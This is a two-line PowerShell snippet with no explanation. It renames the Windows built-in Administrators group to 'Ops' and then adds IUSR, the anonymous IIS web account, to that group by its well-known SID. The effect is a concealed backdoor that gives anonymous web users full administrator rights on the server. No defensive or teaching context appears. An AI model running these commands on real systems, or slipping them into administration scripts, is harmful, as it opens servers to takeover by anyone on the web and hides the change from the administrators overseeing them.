Rename-LocalGroup -Name Administrators -NewName Ops
Add-LocalGroupMember -SID S-1-5-32-544 -Member IUSR
